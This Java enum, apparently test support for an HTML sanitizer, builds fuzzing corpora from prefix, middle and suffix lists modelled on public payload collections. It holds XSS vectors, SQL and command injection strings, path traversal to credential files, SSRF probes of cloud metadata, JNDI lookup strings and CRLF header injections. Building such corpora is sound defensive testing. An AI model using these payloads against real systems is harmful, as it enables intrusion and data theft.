package io.seaworthy.sanitize.html;

import java.util.ArrayList;
import java.util.List;

/**
 * The public collections of attacks, each by the name and place under which it is published, with equivalents made by
 * construction: none of their data is here. Those whose data the build reads are named for completeness.
 */
enum Corpus {
    DOMPURIFY_FIXTURES("cure53/DOMPurify test/fixtures/expect.mjs, read by HtmlSanitizerTest", List.of()),
    BIG_LIST_OF_NAUGHTY_STRINGS("minimaxir/big-list-of-naughty-strings blns.json, read by seven tests", List.of()),
    WPT_URL("web-platform-tests/wpt url/resources/urltestdata.json, read by the tests of net", List.of()),
    WPT_URL_HOSTS(
            "web-platform-tests/wpt url/resources/toascii.json, IdnaTestV2.json, percent-encoding.json",
            cross(
                    List.of("http://", "https://"),
                    List.of(
                            "a\u00ad.b",
                            "\u2603.x",
                            "xn--a.b%00",
                            "a%2eb",
                            "\uff11\uff12\uff17.1",
                            "-a.b",
                            "a..b",
                            "0x7f.1"),
                    List.of("/", ":99/", "."))),
    WPT_SANITIZER_API(
            "web-platform-tests/wpt sanitizer-api/sethtml-*.sub.dat, script-tokenizer, in-adoption-agency",
            cross(
                    List.of(
                            "<b>1<p>2",
                            "<a>1<table><a>2",
                            "<svg><script>",
                            "<template><p>",
                            "<!--<script>",
                            "<frameset>"),
                    List.of("<img src=x onerror=x()>", "<iframe src=javascript:x()>", "<script>x()<!--</script>"),
                    List.of("</b>3</p>", "</script>-->", "</a></table>", "</template></svg>"))),
    CRS_930_LFI(
            "coreruleset REQUEST-930-APPLICATION-ATTACK-LFI",
            cross(
                    List.of("../", "..\\", "%2e%2e/", "..%2f", "..%5c", "/", "C:\\", "file:///"),
                    List.of("etc/passwd", "boot.ini", "WEB-INF/web.xml", "proc/self/environ"),
                    List.of("", "%00", "\0.png"))),
    CRS_931_RFI(
            "coreruleset REQUEST-931-APPLICATION-ATTACK-RFI",
            cross(
                    List.of("http://", "ftp://", "php://input/", "jar:http://", "url:file://"),
                    List.of("10.0.0.1", "user:pw@169.254.169.254", "127.0.0.1:8080", "[::1]"),
                    List.of("/x.txt?", "/%00"))),
    CRS_932_RCE(
            "coreruleset REQUEST-932-APPLICATION-ATTACK-RCE",
            cross(
                    List.of(";", "|", "&&", "`", "$(", "\n", "${IFS}"),
                    List.of("id", "/bin/cat$IFS/etc/passwd", "p'i'ng -c 1 x", "powershell -enc x"),
                    List.of("", ")", "`", "#"))),
    CRS_933_PHP(
            "coreruleset REQUEST-933-APPLICATION-ATTACK-PHP",
            cross(List.of("<?php ", "<?= ", "<?"), List.of("system('id')", "$_GET[0]()"), List.of("?>", ";"))),
    CRS_934_GENERIC(
            "coreruleset REQUEST-934-APPLICATION-ATTACK-GENERIC",
            cross(
                    List.of("{{", "${", "#{", "<%=", "__proto__[", "_$$ND_FUNC$$_"),
                    List.of("7*7", "''.constructor.constructor('x')()", "require('child_process')"),
                    List.of("}}", "}", "%>", "]=1"))),
    CRS_941_XSS(
            "coreruleset REQUEST-941-APPLICATION-ATTACK-XSS",
            cross(
                    List.of("<svg ", "<body\f", "<x/", "<isindex type=image ", "\"><img "),
                    List.of("onload", "oNeRrOr", "onfocus autofocus", "xmlns:x=y style"),
                    List.of("=alert(1)>", "=\"&#97;lert`1`\"", "=eval(atob(x))//"))),
    CRS_942_SQLI(
            "coreruleset REQUEST-942-APPLICATION-ATTACK-SQLI",
            cross(
                    List.of("'", "\"", "1", "title"),
                    List.of(" OR 1=1", " UNION/**/SELECT 1", ";DROP TABLE x", " AND SLEEP(5)", "||chr(37)"),
                    List.of("-- ", "#", "/*", "%_\\"))),
    CRS_943_SESSION_FIXATION(
            "coreruleset REQUEST-943-APPLICATION-ATTACK-SESSION-FIXATION",
            cross(
                    List.of(
                            "<script>document.cookie=",
                            "<meta http-equiv=Set-Cookie content=",
                            "http://10.0.0.1/?jsessionid="),
                    List.of("\"sid=1;expires=Sun, 01 Jan 2040\"", "sid=1"),
                    List.of(">", "</script>"))),
    CRS_944_JAVA(
            "coreruleset REQUEST-944-APPLICATION-ATTACK-JAVA",
            cross(
                    List.of("${jndi:", "${${lower:j}ndi:", "%{(#a=@", "T("),
                    List.of("ldap://10.0.0.1/a", "java.lang.Runtime@getRuntime()", "rmi:x"),
                    List.of("}", ")}", ").exec('id')"))),
    CRS_920_921_PROTOCOL(
            "coreruleset REQUEST-920-PROTOCOL-ENFORCEMENT, REQUEST-921-PROTOCOL-ATTACK",
            cross(
                    List.of("a\r\n", "a\n", "a%0d%0a", "\0", "a\u0085"),
                    List.of("Transfer-Encoding: chunked", "Set-Cookie: a=b", "HTTP/1.1 200 OK"),
                    List.of("\r\n\r\n", "\n"))),
    H5SC(
            "cure53/H5SC items.json, vectors.txt; SecLists Fuzzing/HTML5sec-Injections-Jhaddix.txt",
            cross(
                    List.of(
                            "<form><button form",
                            "<video><source on",
                            "<input autofocus on",
                            "<math href=\"",
                            "<embed "),
                    List.of(
                            "action=javascript:x()",
                            "error=x()",
                            "focus=x()",
                            "javascript:x()\"",
                            "src=\"data:text/html,x\""),
                    List.of(">", " xlink:actuate=onLoad>", "//", "><!--"))),
    PAYLOADS_ALL_THE_THINGS_XSS("swisskyrepo/PayloadsAllTheThings XSS Injection/Intruders", Payloads.all()),
    PAYLOADS_ALL_THE_THINGS_TRAVERSAL(
            "swisskyrepo/PayloadsAllTheThings Directory Traversal/Intruder; SecLists Fuzzing/LFI",
            cross(
                    List.of("", "/", "./"),
                    List.of("../../../", "..\\..\\", "..%c0%af..%c0%af", "..%252f", "....//../", "..;/"),
                    List.of("etc/shadow", "windows/win.ini\0", "x/.."))),
    PAYLOADS_ALL_THE_THINGS_OPEN_REDIRECT(
            "swisskyrepo/PayloadsAllTheThings Open Redirect/Intruder",
            cross(
                    List.of(
                            "//",
                            "///",
                            "/\\",
                            "\\/",
                            "https:",
                            "https:/",
                            "/\t/",
                            "/..//",
                            "/%2e//",
                            "javascript:",
                            "\u3002//"),
                    List.of("evil.example", "evil%E3%80%82example", "site@evil.example", "evil.example\\@site"),
                    List.of("", "/", "/%2f..", "?x", "#"))),
    PAYLOADS_ALL_THE_THINGS_CRLF(
            "swisskyrepo/PayloadsAllTheThings CRLF Injection/Files/crlfinjection.txt",
            cross(
                    List.of("/", "", "?"),
                    List.of("\r\n", "%0d%0a", "\u560d\u560a", "%E5%98%8A%E5%98%8D", "\r", "\u2028", "%%0a0a"),
                    List.of("Set-Cookie:a=b", "Location://e", "\r\n<script>x()</script>"))),
    PAYLOADS_ALL_THE_THINGS_SSRF(
            "swisskyrepo/PayloadsAllTheThings Server Side Request Forgery; SecLists Fuzzing/SSRF_hacktricks.txt",
            cross(
                    List.of("http://", "https://", "gopher://", "http:", "//"),
                    List.of(
                            "127.1",
                            "0x7f000001",
                            "017700000001",
                            "[::ffff:7f00:1]",
                            "0",
                            "localhost",
                            "169.254.169.254",
                            "[fd00:ec2::254]",
                            "127.0.0.1.nip.io",
                            "\u2460\u2461\u2466.0.0.1",
                            "good@127.0.0.1",
                            "[::]"),
                    List.of("", "/latest/meta-data", ":80\\@good/", "#@good/"))),
    PAYLOADS_ALL_THE_THINGS_LDAP(
            "swisskyrepo/PayloadsAllTheThings LDAP Injection/Intruder",
            cross(
                    List.of("*", "admin)", "x\\2a", "\0"),
                    List.of("(&", "(|(uid=*", ")(!(a=b"),
                    List.of(")", "))%00", "\u0000"))),
    PAYLOADS_ALL_THE_THINGS_UPLOAD(
            "swisskyrepo/PayloadsAllTheThings Upload Insecure Files",
            cross(
                    List.of("a.", "a.png.", "a.%00", "../a."),
                    List.of("php", "pHtml", "jsp", "svg", "html", "shtml", "exe"),
                    List.of("", ".png", "\0.png", "::$DATA", ". "))),
    SECLISTS_SQLI(
            "danielmiessler/SecLists Fuzzing/Databases/SQLi",
            cross(
                    List.of("a'", "1)", "%"),
                    List.of(" waitfor delay '0:0:5'", "; exec xp_cmdshell"),
                    List.of("--", "%", "_"))),
    SECLISTS_UNICODE(
            "danielmiessler/SecLists Fuzzing/Unicode.txt",
            cross(
                    List.of("a\u202e", "\u2066x", "\ufeff", "\udb40\udc41", "\ud800", "e" + "\u0301".repeat(40)),
                    List.of("\u0130\u0131", "\ufdfa", "\ud83d\udc68\u200d\ud83d\udc69", "\uffff"),
                    List.of("", "\u2029", "\udc00"))),
    SECLISTS_POLYGLOTS(
            "danielmiessler/SecLists Fuzzing/Polyglots",
            cross(
                    List.of("jaVasCript:/*-/*`/*'/*\"/**/(/* */", "'\"><!--{{${%", "*/alert()/*"),
                    List.of("oNcliCk=alert() )//", "</stYle/</titLe/</teXtarEa/</scRipt/--!>", "<svg/onload=x()//"),
                    List.of(">", "\\x3csVg/<sVg/oNloAd=alert()//>\\x3e", "%0D%0A"))),
    FUZZDB_XSS(
            "fuzzdb-project/fuzzdb attack/xss, all-encodings-of-lt.txt",
            cross(
                    List.of("&lt", "&#60", "&#x3c;", "&#X0003C", "%3c", "\\x3c", "\\u003C", "\uff1c", "+ADw-", "<"),
                    List.of("script", "img src=x onerror=x()", "ScRiPt\0"),
                    List.of(">x()", "/>", "&gt;", " >x()</script>")));

    /** Where its original is published. */
    final String source;

    final List<String> payloads;

    Corpus(String source, List<String> payloads) {
        this.source = source;
        this.payloads = payloads;
    }

    private static List<String> cross(List<String> starts, List<String> middles, List<String> ends) {
        List<String> all = new ArrayList<>();
        for (String start : starts) {
            for (String middle : middles) {
                for (String end : ends) {
                    all.add(start + middle + end);
                }
            }
        }
        return List.copyOf(all);
    }
}
